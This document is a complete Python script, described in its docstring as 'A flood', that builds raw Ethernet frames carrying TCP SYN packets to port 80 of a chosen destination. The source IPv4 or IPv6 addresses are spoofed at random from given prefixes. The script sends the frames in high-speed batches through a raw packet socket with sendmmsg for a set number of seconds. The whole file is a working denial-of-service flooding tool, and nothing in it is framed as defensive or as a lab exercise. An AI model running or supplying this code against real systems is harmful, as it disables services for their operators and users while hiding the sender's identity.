#!/usr/bin/python3
"""A flood: `flood.py LINK MAC DESTINATION SECONDS SOURCE/LENGTH...` sends SYNs to port 80 of the destination by the
link, as fast as it can, from random sources in the prefixes of the destination's family, and prints how many it sent.
"""
import ctypes
import ipaddress
import random
import socket
import struct
import sys
import time

BATCH = 512  # frames a call, made anew for each round of ROUNDS batches
ROUNDS = 32


def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    total = (total & 0xFFFF) + (total >> 16)
    return 0xFFFF - ((total & 0xFFFF) + (total >> 16))


def frame(macs, source, destination):
    tcp = struct.pack("!HHIIBBHHH", random.randrange(1024, 65536), 80, 1, 0, 0x50, 2, 1024, 0, 0)
    pseudo = source.packed + destination.packed + struct.pack("!II", len(tcp), 6)
    tcp = tcp[:16] + struct.pack("!H", checksum(pseudo + tcp)) + tcp[18:]
    if destination.version == 6:
        return macs + b"\x86\xdd" + struct.pack("!IHBB", 6 << 28, len(tcp), 6, 64) + source.packed + destination.packed + tcp
    ip = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(tcp), 0, 0x4000, 64, 6, 0) + source.packed + destination.packed
    ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
    return macs + b"\x08\x00" + ip + tcp


class Vector(ctypes.Structure):  # struct iovec
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]


class Message(ctypes.Structure):  # struct mmsghdr
    _fields_ = [("name", ctypes.c_void_p), ("name_length", ctypes.c_uint32), ("vector", ctypes.POINTER(Vector)),
                ("vectors", ctypes.c_size_t), ("control", ctypes.c_void_p), ("control_length", ctypes.c_size_t),
                ("flags", ctypes.c_int), ("sent", ctypes.c_uint)]


def batch(macs, destination, prefixes):
    buffers, messages = [], (Message * BATCH)()
    for message in messages:
        prefix = random.choice(prefixes)
        source = prefix[random.randrange(prefix.num_addresses)]
        data = ctypes.create_string_buffer(frame(macs, source, destination))
        vector = Vector(ctypes.cast(data, ctypes.c_void_p), len(data) - 1)
        message.vector, message.vectors = ctypes.pointer(vector), 1
        buffers += [data, vector]
    return messages, buffers


link, mac, destination, seconds, *prefixes = sys.argv[1:]
destination = ipaddress.ip_address(destination)
prefixes = [p for p in map(ipaddress.ip_network, prefixes) if p.version == destination.version]
out = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
out.bind((link, 0))
own = open(f"/sys/class/net/{link}/address").read().strip()
macs = bytes.fromhex(mac.replace(":", "")) + bytes.fromhex(own.replace(":", ""))
batches = [batch(macs, destination, prefixes) for _ in range(ROUNDS)]
libc = ctypes.CDLL(None, use_errno=True)
count, end = 0, time.monotonic() + float(seconds)
while time.monotonic() < end:
    for messages, _ in batches:
        sent = libc.sendmmsg(out.fileno(), messages, BATCH, 0)
        count += max(sent, 0)
print(count)
